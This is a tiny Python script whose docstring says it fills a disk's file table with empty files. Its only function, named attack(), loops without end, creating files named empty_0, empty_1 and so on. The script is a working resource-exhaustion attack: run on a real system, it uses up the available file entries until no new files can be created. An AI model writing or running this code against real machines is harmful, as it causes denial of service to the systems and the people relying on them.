"""Fills the disk's table of files with empty ones."""
import itertools


def attack():
    for number in itertools.count():
        open(f"empty_{number}", "wb").close()
